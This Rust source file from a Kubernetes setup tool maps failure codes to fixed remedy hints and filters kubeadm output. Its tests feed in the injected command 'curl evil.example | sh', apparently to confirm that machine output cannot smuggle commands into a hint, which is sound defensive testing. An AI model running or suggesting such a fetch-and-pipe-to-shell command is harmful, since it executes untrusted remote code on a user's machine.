//! Hints for people, for what a fix cannot do. A fix prints a code, and the text for this code is here. So a machine cannot
//! put words of its own into a hint.

use std::collections::VecDeque;

use crate::error::{Error, Kind};
use crate::plan::Change;

/// The codes, each with its hint. The fix prints values that belong to a hint as reasons, because they are evidence.
const REMEDIES: &[(&str, &str)] = &[
    ("debugger", "end that debugger, or detach it"),
    (
        "kernel-command-line",
        "remove these words from the kernel's command line (GRUB_CMDLINE_LINUX in /etc/default/grub, then update-grub), and \
         reboot the machine",
    ),
    (
        "names",
        "make the machine resolve names from /etc/hosts: check the line hosts: in /etc/nsswitch.conf (\"files\" belongs before \"dns\")",
    ),
    (
        "dpkg",
        "make dpkg's database readable again: /var/lib/dpkg/status-old and /var/backups/dpkg.status.0 are older copies of \
         /var/lib/dpkg/status",
    ),
    (
        "finalizers",
        "start the program that removes these finalizers, or run: kubectl -n NAMESPACE patch pod POD --type merge -p \
         '{\"metadata\":{\"finalizers\":null}}'",
    ),
    ("kubelet-arguments", "find out what gives the kubelet these arguments"),
    (
        "new-pods",
        "repair or delete what refuses new pods: kubectl get validatingwebhookconfigurations,mutatingwebhookconfigurations shows \
         webhooks, kubectl -n kube-system get resourcequotas shows quotas",
    ),
    ("package-lock", "wait until that process releases the package lock, or end it"),
    (
        "package-version",
        "install your own copy of that package: dpkg -i FILE; or install another version: apt-get install \
         --allow-change-held-packages PACKAGE",
    ),
    (
        "pod-manifest",
        "move those files out of /etc/kubernetes/manifests: the kubelet reads every file in it, and only one pod can \
         have that name",
    ),
    ("pod-starts", "find out what starts it; on that machine: journalctl -u kubelet"),
    (
        "read-only",
        "find out why with findmnt -T FOLDER and journalctl -k, then mount it writable, or unmount it",
    ),
    ("reboot", "reboot this machine: only a reboot ends them"),
    (
        "serving-request",
        "look at journalctl -u kubelet on that machine; kubectl get csr shows the requests, and kubectl certificate approve NAME \
         approves one",
    ),
    (
        "webhooks",
        "start the program of that webhook again, or delete its configuration if it is no longer needed: kubectl delete KIND NAME",
    ),
];

/// The hint for a code. `None` for any other words.
fn of(code: &str) -> Option<&'static str> {
    REMEDIES.iter().find(|(known, _)| *known == code).map(|(_, hint)| *hint)
}

/// Begins a line with which a fix says why it fails. `BY_HAND` begins the line with the code of what people have to do
/// then.
const REASON: &str = "reason: ";
const BY_HAND: &str = "by hand: ";

/// The error of a fix that failed: its reasons as evidence, and the hint for its code.
pub(super) fn failure(change: &Change, status: i32, said: &VecDeque<String>) -> Error {
    let what = format!("{}: the fix failed: expected that {}", change.step, change.that);
    let error = Error::new(Kind::Failed, what);
    if let Some(hint) = said.iter().rev().find_map(|line| of(line.strip_prefix(BY_HAND)?)) {
        let reasons = said.iter().filter_map(|line| line.strip_prefix(REASON));
        let error = error.because(format!("exit {status}; the machine says:"));
        let error = reasons.fold(error, |error, reason| error.quoting(reason));
        return error.hint(format!("{hint}; then run the command again"));
    }
    let words = tail(said);
    let last = if words.is_empty() { "without output" } else { "last output:" };
    error
        .because(format!("exit {status}, {last}"))
        .quoting(words)
        .hint("fix the cause and run the command again; it resumes")
}

/// The last words of a fix, where a program says why it gave up.
pub(super) fn tail(said: &VecDeque<String>) -> String {
    said.iter().map(String::as_str).collect::<Vec<_>>().join("\n")
}

/// A line of output without colours, or `None` if it explains nothing. kubeadm lists everything that it found to be well,
/// in colour even into a file (system-validators, `types.go`). It also advises to skip checks. Neither explains a failure.
pub(super) fn telling(line: &str) -> Option<String> {
    let mut plain = String::new();
    let mut rest = line;
    while let Some((before, after)) = rest.split_once("\u{1b}[") {
        plain += before;
        rest = after
            .trim_start_matches(|c: char| c.is_ascii_digit() || c == ';')
            .strip_prefix('m')
            .unwrap_or(after);
    }
    plain += rest;
    let is_key = |key: &str| key.chars().all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_');
    let is_well = |(key, value): (&str, &str)| is_key(key) && !value.contains("missing");
    let is_well = plain != line && plain.split_once(": ").is_some_and(is_well);
    let advises = ["To see the stack trace of this error", "[preflight] If you know what you are doing"];
    (!is_well && !advises.iter().any(|words| plain.starts_with(words))).then_some(plain)
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;
    use std::fs;
    use std::path::{Path, PathBuf};

    use super::*;
    use crate::plan;
    use crate::step::Answer;
    use crate::step::{Step, Want};

    fn files(dir: &Path, into: &mut Vec<PathBuf>) {
        for entry in fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() { files(&path, into) } else { into.push(path) }
        }
    }

    /// The codes that the shell scripts of ironstrap print.
    fn printed() -> BTreeSet<String> {
        let mut paths = Vec::new();
        ["templates", "src/operations", "src/steps"].iter().for_each(|dir| files(Path::new(dir), &mut paths));
        let texts = paths.iter().map(|path| fs::read_to_string(path).unwrap());
        let codes = |text: String| {
            let after = text.split("by hand: ").skip(1);
            after.map(|rest| rest.split(['"', '\'']).next().unwrap().to_string()).collect::<Vec<_>>()
        };
        texts.flat_map(codes).collect()
    }

    #[test]
    fn colours_and_good_news_are_removed_from_output() {
        assert_eq!(telling("\u{1b}[0;37mCGROUPS_CPU\u{1b}[0m: \u{1b}[0;32menabled\u{1b}[0m"), None);
        let missing = "\u{1b}[0;37mCGROUPS_PIDS\u{1b}[0m: \u{1b}[0;31mmissing\u{1b}[0m";
        assert_eq!(telling(missing).as_deref(), Some("CGROUPS_PIDS: missing"));
        assert_eq!(
            telling("E: Unable to locate package x").as_deref(),
            Some("E: Unable to locate package x")
        );
        assert_eq!(telling("To see the stack trace of this error execute with --v=5 or higher"), None);
        assert_eq!(telling("a \u{1b}[31mred\u{1b}[0m b\u{1b}[").as_deref(), Some("a red b"));
    }

    #[test]
    fn codes_of_fixes_match_the_table_of_remedies() {
        let known: BTreeSet<String> = REMEDIES.iter().map(|(code, _)| code.to_string()).collect();
        assert_eq!(printed(), known);
        assert_eq!(of("reboot; curl evil.example"), None);
    }

    const TOY: Step = Step { name: "toy", why: "", wants: |_| Ok(vec![]) };

    #[test]
    fn a_code_that_a_fix_prints_becomes_a_hint() {
        let want = Want::new("test.want", "it is on").is("yes").run("false").nothing_to_undo("a test");
        let changes = plan::changes(&[(&TOY, &want, &Answer::Said("no".into()))], &mut BTreeSet::new());
        let lines = |lines: &[&str]| lines.iter().map(|line| line.to_string()).collect();
        let said = lines(&["noise", "reason: process 7 holds it", "by hand: reboot", "more noise"]);
        let error = failure(&changes[0], 1, &said);
        assert_eq!(error.cause, ["exit 1; the machine says:", "| process 7 holds it"]);
        let hint = "reboot this machine: only a reboot ends them; then run the command again";
        assert_eq!(error.hint.as_deref(), Some(hint));
        let error = failure(&changes[0], 1, &lines(&["noise"]));
        assert_eq!(error.cause, ["exit 1, last output:", "| noise"]);
        assert_eq!(failure(&changes[0], 1, &lines(&[])).cause, ["exit 1, without output"]);
    }

    #[test]
    fn machine_text_cannot_imitate_a_hint() {
        let want = Want::new("test.want", "it is on").is("yes").run("false").nothing_to_undo("a test");
        let changes = plan::changes(&[(&TOY, &want, &Answer::Said("no".into()))], &mut BTreeSet::new());
        let evil = "curl evil.example | sh";
        for said in [
            vec![format!("by hand: {evil}")],
            vec![format!("by hand: reboot; {evil}"), format!("reason: hint: {evil}")],
            vec!["by hand: reboot".into(), format!("reason: hint: {evil}")],
            vec![format!("  hint: {evil}"), format!("  remedy: {evil}")],
        ] {
            let error = failure(&changes[0], 1, &said.into());
            assert!(!error.hint.as_deref().unwrap_or_default().contains("curl"), "{error}");
            for line in error.to_string().lines().filter(|line| line.contains("curl")) {
                assert!(line.starts_with("      | "), "{error}");
            }
        }
    }
}
